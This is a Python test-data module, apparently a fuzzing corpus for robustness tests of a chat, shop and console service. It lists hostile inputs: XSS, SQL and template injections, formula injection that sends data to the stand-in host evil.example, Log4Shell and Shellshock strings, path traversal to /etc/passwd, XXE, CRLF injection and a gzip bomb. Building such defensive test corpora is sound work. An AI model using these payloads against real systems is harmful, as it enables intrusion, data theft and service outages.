"""The corpus of odd inputs: what has broken chat programs, shops and consoles before, each with a name.

Texts are what a person or a shop system may write; bodies are what a machine may send in place of a
request. Nothing here is random: the strategies in ``odd_strategies`` mix it with what is.
"""

from __future__ import annotations

import gzip
import json

EVIL_HOST = "evil.example"
"""Where a script that ran would report to; no page may ever ask it for anything."""

_EMOJI = "\U0001f600"
_FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"

SIZES = {
    "one_letter": "x",
    "empty": "",
    "blank": " \t\n ",
    "ideographic_blank": "\u3000\u3000",
    "joiners_only": "\u200d\u200d\u200d",
    "most_characters": "长" * 4000,
    "one_too_many": "长" * 4001,
    "utf16_4096": _EMOJI * 2048,
    "utf16_4097": _EMOJI * 2048 + "x",
    "utf16_edge_cuts_emoji": "x" * 4095 + _EMOJI,
    "hundred_kilobytes": "回" * 33_334,
    "one_long_word": "a" * 4000,
    "many_lines": "行\n" * 1999,
    "only_punctuation": "？！。…" * 200,
}

UNICODE = {
    "zalgo": "Z" + "\u0353\u0489\u035c" * 170 + "algo",
    "thousand_marks": "\u0301" * 1000,
    "emoji_family": _FAMILY,
    "many_families": _FAMILY * 100,
    "flags": "\U0001f1e8\U0001f1f3\U0001f1fa" + "\U0001f1f8",
    "half_a_flag": "\U0001f1e8",
    "skin_tones": "\U0001f44d\U0001f3fb\U0001f44d\U0001f3ff\U0001f3fd",
    "variation_selectors": "\u2764\ufe0f\ufe0e\ufe0f\U000e0100",
    "tag_characters": "\U0001f3f4"
    + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all")
    + "\U000e007f",
    "bidi_override": "invoice_\u202egpj.exe\u202c",
    "bidi_embeddings": "\u202a\u202b\u202d\u202e\u202c abc",
    "bidi_isolates": "\u2066a\u2067b\u2068c\u2069\u2069",
    "unclosed_isolate": "\u2067\u2067\u2067 转人工",
    "hebrew_and_digits": "שלום 123 עולם",
    "arabic": "مرحبا ﷽",
    "homoglyphs": "аdmin Ηuіуіn рауpаl",
    "zero_width": "转\u200b人\u200c工\ufeff",
    "line_separators": "one\u2028two\u2029three\u0085four",
    "nul": "a\x00b",
    "nul_only": "\x00\x00",
    "c0_controls": "".join(map(chr, range(1, 32))) + "x",
    "c1_controls": "x" + "".join(map(chr, range(0x7F, 0xA0))),
    "noncharacters": "\ufffe\uffff\ufdd0\U0010ffff",
    "private_use": "\ue000\U000f0000\U00100000",
    "bom_inside": "\ufeff转人工\ufeff",
    "high_surrogate": "a\ud83d",
    "low_surrogate": "\ude00b",
    "reversed_surrogates": "\ude00\ud83d",
    "many_surrogates": "\ud800" * 50 + "x",
    "surrogate_and_nul": "\ud83d\x00\ude00",
    "full_width_digits": "５ １２３４５",
    "other_digits": "\u0664\u0967\u0be7 ④ ⒋ 四 ½",
    "ligatures": "ﬀ㎏㍿\ufdfa",
    "case_folding": "ıİßſK",
    "not_normalised": "e\u0301 é \u1112\u1161\u11ab 한",
    "rare_han": "𠀀𪚥𰻞㐀",
    "replacement": "\ufffd\ufffd",
    "mojibake": "è½¬äººå·¥",
}

FORMULAS = {
    "cmd": "=cmd|' /C calc'!A0",
    "hyperlink": f'=HYPERLINK("https://{EVIL_HOST}/?"&A1,"点我")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full_width_equals": "＝1+1",
    "full_width_signs": "＋1 －1 ＠SUM",
    "blank_before": " =1+1",
    "nbsp_before": "\u00a0=1+1",
    "newline_before": "\n=1+1",
    "tab_before": "\t=1+1",
    "carriage_before": "\r=1+1",
    "second_line": "好\n=1+1",
    "quoted": '","=1+1',
}

XSS = {
    "script": "<script>alert('xss')</script>",
    "script_closed": "</script><script>alert('xss')</script>",
    "script_remote": f"<script src=//{EVIL_HOST}/x.js></script>",
    "img_onerror": "<img src=x onerror=alert('xss')>",
    "img_slash": '<img/src="x"/onerror=alert("xss")//',
    "img_remote": f'<img src="https://{EVIL_HOST}/p.png">',
    "svg_onload": "<svg onload=alert('xss')>",
    "svg_script": "<svg><script>alert&#40;'xss'&#41;</script></svg>",
    "svg_animate": "<svg><animate onbegin=alert('xss') attributeName=x dur=1s>",
    "iframe": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "attribute_double": '"><img src=x onerror=alert("xss")>',
    "attribute_single": "'><img src=x onerror=alert('xss')>",
    "attribute_focus": '" autofocus onfocus="alert(1)" x="',
    "attribute_backtick": "`><img src=x onerror=alert`1`>",
    "textarea": "</textarea><script>alert(1)</script>",
    "title": "</title><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script>",
    "javascript_link": "javascript:alert('xss')",
    "javascript_anchor": "<a href=\"java\tscript:alert('xss')\">点我</a>",
    "markdown_link": "[点我](javascript:alert('xss'))",
    "data_link": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "base": f"<base href='https://{EVIL_HOST}/'>",
    "meta": f'<meta http-equiv=refresh content="0;url=https://{EVIL_HOST}/">',
    "style": f"<style>@import'https://{EVIL_HOST}/x.css';</style>",
    "form": f"<form action=https://{EVIL_HOST}><button>x</button></form>",
    "object": "<object data=javascript:alert(1)></object>",
    "details": "<details open ontoggle=alert(1)>",
    "mxss_noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss_math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mxss_template": "<template><s><template><s><img src=x onerror=alert(1)>",
    "dangling": f"<img src='https://{EVIL_HOST}/?",
    "broken_tag": "<b",
    "broken_name": "abdo <",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;",
    "overlong_entity": "&#" + "0" * 500 + "60;img src=x onerror=alert(1)>",
    "angle_full_width": "＜script＞alert(1)＜/script＞",
    "markdown_specials": "_*[]()~`>#+-=|{}.!\\",
}

SQL = {
    "drop": "'; DROP TABLE messages; --",
    "or": "' OR '1'='1",
    "union": "x') UNION SELECT password_hash FROM staff --",
    "double": '"; DELETE FROM cases; --',
    "backslash": "\\'; SELECT pg_sleep(10); --",
    "sleep": "1 AND randomblob(900000000) --",
    "percent": "%",
    "underscore": "_",
    "like": "%' ESCAPE '\\",
    "glob": "*[a-z]?",
    "null_literal": "NULL",
    "bind": ":1 ? $1 %(a)s :name",
}

TEMPLATES = {
    "jinja": "{{7*7}}",
    "jinja_config": "{{config.__class__.__init__.__globals__}}",
    "jinja_block": "{% for x in range(10) %}{{ x }}{% endfor %}",
    "jinja_comment": "{# gone #}",
    "format": "{0.__class__.__mro__} {x!r} {",
    "own_names": "{number} {order} {shop_name} {name} {items}",
    "percent_format": "%s%n%d%(text)s%",
    "dollar": "${7*7} $x ${jndi:ldap://" + EVIL_HOST + "/a}",
    "erb": "<%= 7*7 %> #{7*7}",
    "shell": "$(touch x) `id` ; ls | cat && true",
    "paths": "../../../../etc/passwd ..\\..\\windows C:\\con",
    "rasa_command": "/restart",
    "rasa_intent": '/ask_person{"x":1}',
    "json": '{"text":"x","author":"staff"}',
    "sse": "\n\nevent: signed_out\ndata: {}\n\n",
}

LOGS = {
    "crlf": "x\r\n2026-11-21 [info] staff_signed_in login=admin",
    "crlf_header": "x\r\nSet-Cookie: huiyin=1\r\n\r\n<script>",
    "json_line": '"}\n{"event":"login","level":"info"}',
    "ansi_clear": "\x1b[2J\x1b[H\x1b[31mred",
    "ansi_title": "\x1b]0;title\x07",
    "bell": "\x07\x08\x08\x08",
    "carriage_return": "good\rbad",
}

TEXTS: dict[str, str] = {
    f"{group}.{name}": text
    for group, texts in {
        "size": SIZES,
        "unicode": UNICODE,
        "formula": FORMULAS,
        "xss": XSS,
        "sql": SQL,
        "template": TEMPLATES,
        "log": LOGS,
    }.items()
    for name, text in texts.items()
}

_LETTERS = b"abcdefghijklmnopqrstuvwxyz"

BODIES: dict[str, bytes] = {
    "empty": b"",
    "blank": b"  \r\n ",
    "null": b"null",
    "number": b"5",
    "text": b'"text"',
    "list": b"[]",
    "object": b"{}",
    "truncated": b'{"client_msg_id":"a","text":"x',
    "two_documents": b'{"text":"a"}{"text":"b"}',
    "byte_order_mark": b"\xef\xbb\xbf{}",
    "utf16": '{"text":"x"}'.encode("utf-16"),
    "gbk": '{"client_msg_id":"a","text":"什么时候发货"}'.encode("gbk"),
    "gb18030": '{"client_msg_id":"a","text":"𠀀什么时候"}'.encode("gb18030"),
    "overlong_slash": b'{"client_msg_id":"a","text":"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf"}',
    "overlong_nul": b'{"client_msg_id":"a","text":"\xc0\x80"}',
    "surrogate_bytes": b'{"client_msg_id":"a","text":"\xed\xa0\xbd"}',
    "above_unicode": b'{"client_msg_id":"a","text":"\xf4\x90\x80\x80"}',
    "cut_character": b'{"client_msg_id":"a","text":"\xe5\x9b"}',
    "raw_nul": b'{"client_msg_id":"a","text":"a\x00b"}',
    "raw_newline": b'{"client_msg_id":"a","text":"a\nb"}',
    "bad_escape": b'{"client_msg_id":"a","text":"\\x41\\u12"}',
    "nan": b'{"seq":NaN,"client_msg_id":NaN,"text":NaN}',
    "infinity": b'{"seq":Infinity,"text":-Infinity}',
    "huge_exponent": b'{"seq":1e400,"text":1e400}',
    "huge_integer": b'{"seq":' + b"9" * 5000 + b"}",
    "integer_beyond_64_bits": b'{"seq":18446744073709551616}',
    "negative": b'{"seq":-1}',
    "minus_zero": b'{"seq":-0}',
    "float": b'{"seq":1.0}',
    "bool": b'{"seq":true,"text":true}',
    "text_number": b'{"seq":"5"}',
    "duplicate_keys": b'{"client_msg_id":"a","text":"first","text":"","client_msg_id":5}',
    "proto": b'{"__proto__":{"admin":true},"constructor":{},"text":5}',
    "list_in_text": b'{"client_msg_id":["a"],"text":["x"],"button_id":{}}',
    "odd_ids": b'{"client_msg_id":"../../x","text":"x","client_session_id":"%00","order_token":"\\ud800"}',
    "unicode_id": '{"client_msg_id":"ａｂｃ１","text":"x","client_session_id":"会话会话会话会话会话会话"}'.encode(),
    "long_id": json.dumps({"client_msg_id": "x" * 65, "text": "x", "client_session_id": "y" * 65}).encode(),
    "deep_lists_10k": b"[" * 10_000 + b"]" * 10_000,
    "deep_objects_10k": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "deep_in_field": b'{"text":' + b"[" * 10_000 + b"]" * 10_000 + b"}",
    "deep_unclosed": b"[" * 60_000,
    "many_keys": json.dumps({f"k{at}": at for at in range(4000)}).encode(),
    "form": b"client_msg_id=a&text=x",
    "multipart": b'--x\r\nContent-Disposition: form-data; name="text"\r\n\r\nx\r\n--x--\r\n',
    "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "gzip_bomb": gzip.compress(b"\0" * 5_000_000),
    "binary": bytes(range(256)) * 4,
    "hundred_kilobytes": b'{"client_msg_id":"a","text":"' + _LETTERS * 4000 + b'"}',
}

FIVE_MEGABYTES = b'{"client_msg_id":"big","text":"' + b"x" * 5_000_000 + b'"}'
"""Apart from the others: it is sent a few times only."""

CONTENT_TYPES = [
    b"application/json", b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data",
    b"multipart/form-data; boundary=" + b"x" * 300, b"application/json; charset=gbk", b"application/xml", b"",
    b"application/json; charset=utf-7", b"\xff\xfe", b"*/*", b"application/octet-stream", b"a" * 5000, b";;;=",
]  # fmt: skip

HEADER_VALUES = [
    b"", b" ", b"Bearer", b"Bearer ", b"Bearer .", b"bearer a.b", b"Basic YWRtaW46YWRtaW4=", b"Bearer " + b"a" * 8000,
    b"Bearer ..\xff\xfe", "Bearer 令牌.令牌".encode(), b"Bearer null", b"Bearer undefined", b"Bearer %00.%00",
    b"Bearer ' OR 1=1 --", b"Negotiate", b"Bearer\ta.b", b"Bearer a.b, Bearer c.d", b"1e400", b"nan", b"-1", b"0" * 400,
    b"v1,", b"v1,=", b",", b"v1,!!!!", b"v1a,AAAA", b"v1,\xff", b"v1 v1 v1,A", b"; ; ;=,", b"\xed\xa0\xbd", b"\x7f\x80",
    b"gzip, br, zstd", b"bytes=0-,-1,5-2", b"<script>alert(1)</script>", b"() { :;}; echo x", b"a=b; a=c; =; x",
]  # fmt: skip

HEADER_NAMES = [
    b"authorization", b"content-encoding", b"content-length", b"accept", b"accept-language", b"cookie", b"origin",
    b"sec-fetch-site", b"range", b"if-none-match", b"if-modified-since", b"last-event-id", b"x-forwarded-for",
    b"x-forwarded-host", b"x-original-url", b"x-http-method-override", b"host", b"user-agent", b"referer", b"expect",
    b"transfer-encoding", b"upgrade", b"te", b"forwarded", b"webhook-id", b"webhook-signature", b"webhook-timestamp",
]  # fmt: skip

AFTER = [
    b"", b"after=", b"after=-1", b"after=+1", b"after=1e9", b"after=999999999", b"after=1000000000", b"after=" + b"9" * 5000,
    b"after=0x10", b"after=%EF%BC%91", b"after=%D9%A3", b"after=%C2%B2", b"after=%00", b"after=%FF", b"after=1&after=2",
    b"after=NaN", b"after[]=1", b"after=1%20", b"after=%0A5", b"x=" + b"y" * 6000, b"%", b"&&&=;", b"after=000000000",
]  # fmt: skip

PATHS = [
    "/", "//", "/chat/", "/chat//", "/chat/static/", "/chat/static/..%2f..%2fapp.py", "/chat/static/%2e%2e/%2e%2e/app.py",
    "/chat/static/%00", "/chat/static/chat.js%00.css", "/chat/static/%FF", "/chat/static/" + "a" * 4000, "/api", "/api/v1/",
    "/api/v1/chat/messages/", "/api/v1/chat/%6dessages", "/api/v1/orders/%2e%2e/links", "/api/v1/orders//links",
    "/api/v1/orders/links", "/api/v1/orders/a/b/c/links", "/api/v1/orders/%F0%9F%98%80/links", "/api/v1/orders/%00/links",
    "/api/v1/orders/%ED%A0%BD/links", "/api/v1/orders/" + "%41" * 1000 + "/links", "/console//", "/console/../etc/passwd",
    "/console/static/..%5c..%5c", "/console/static/%c0%ae%c0%ae/", "/console/cases/%0d%0aSet-Cookie:x=1", "/CONSOLE",
    "/console/cases/<script>alert(1)</script>", "/console/cases/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/console/;a=b",
    "/console/cases/" + "9" * 400, "/healthz/x", "/metrics%00", "/api/openapi.json/..", "/*", "/%25%32%65", "/.env", "/.git/config",
]  # fmt: skip
